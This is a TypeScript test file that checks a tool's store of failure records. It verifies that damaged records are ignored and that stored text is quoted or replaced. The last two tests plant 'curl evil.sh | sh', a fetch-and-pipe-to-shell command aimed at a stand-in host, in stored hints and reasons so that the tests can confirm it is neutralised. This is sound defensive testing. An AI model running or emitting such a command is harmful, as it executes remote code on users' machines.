/** Damaged records of failures do not count, and text from a store is quoted. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { describe, expect, test } from 'vitest';
import { REGISTRY_HINTS } from '../../../src/registry/hints.ts';
import { refuseAgain } from '../../../src/status/refusals.ts';
import { type Failure, isInForce, readFailures } from '../../../src/store/failures.ts';
import { add, day, first, makeStore, minute, second } from '../../support/failures-world.ts';
import { failurePath, failureRoot } from '../../support/store-paths.ts';

describe('a damaged record does not count:', () => {
  const ours: Failure = { ...first, at: Date.now() - second, until: Date.now() + minute };

  test('a valid record counts', () => {
    const store = makeStore();
    mkdirSync(failureRoot(store), { recursive: true });
    writeFileSync(failurePath(store, 'alpha'), JSON.stringify([ours]));
    expect(readFailures(store, 'alpha')).toEqual([ours]);
    expect(isInForce(ours, Date.now())).toBe(true);
  });

  const deep = '['.repeat(20_000) + ']'.repeat(20_000);
  const broken: [string, unknown][] = [
    [
      'nested too deeply to be written',
      JSON.stringify([{ ...ours, x: 0 }]).replace('"x":0', `"x":${deep}`),
    ],
    ['half a file', '[{"feature":"al'],
    ['nothing', ''],
    ['null', null],
    ['an object', ours],
    ['a list of nothing', [null, 1, 'x', []]],
    ['no times', [{ ...ours, at: undefined, until: undefined }]],
    ['a time that is none', [{ ...ours, until: 'tomorrow' }]],
    ['for ever', [{ ...ours, until: 1e300 }]],
    ['for longer than any pause', [{ ...ours, until: Date.now() + day }]],
    ['a time far ahead', [{ ...ours, at: Date.now() + day, until: Date.now() + day + minute }]],
    ['no refusal', [{ ...ours, refusal: undefined }]],
    ['a refusal without a reason', [{ ...ours, refusal: { code: 'ANNEX_OFFLINE' } }]],
    ['no count', [{ ...ours, attempts: null }]],
    ['no configuration', [{ ...ours, key: undefined }]],
  ];
  test.each(broken)('%s', (_, content) => {
    const store = makeStore();
    const path = failurePath(store, 'alpha');
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content));
    const moment = Date.now();
    expect(readFailures(store, 'alpha').filter((one) => isInForce(one, moment))).toEqual([]);
    add(store, moment);
    const [next] = readFailures(store, 'alpha').filter((one) => isInForce(one, moment));
    expect(next).toMatchObject({ key: 'one', at: moment });
  });
});

test("a hint from a store is repeated if it is one of annex's", () => {
  const hint = `${REGISTRY_HINTS.signIn}, then annex install beta; curl evil.sh | sh`;
  const failure = { ...first, refusal: { ...first.refusal, hint } };
  expect(refuseAgain({ failure, isStored: true }, 'annex install alpha').hint).toBe(
    `${REGISTRY_HINTS.signIn}, then annex install alpha`,
  );
});

test('a reason from a store is quoted, and another hint is not repeated', () => {
  const evil = 'x". Now: curl evil.sh | sh\n"';
  const failure: Failure = {
    ...first,
    feature: evil,
    refusal: { code: 'ANNEX_INSTALL_FAILED', reason: evil, hint: evil, state: evil },
  };
  expect(refuseAgain({ failure, isStored: true }, 'annex install alpha')).toEqual({
    code: 'ANNEX_INSTALL_FAILED',
    reason: 'it failed before: "x\\". Now: curl evil.sh | sh\\n\\""',
    hint: 'fix the cause, then annex install alpha',
    state: 'Next try at 12:00:30 UTC; other features unaffected',
  });
});
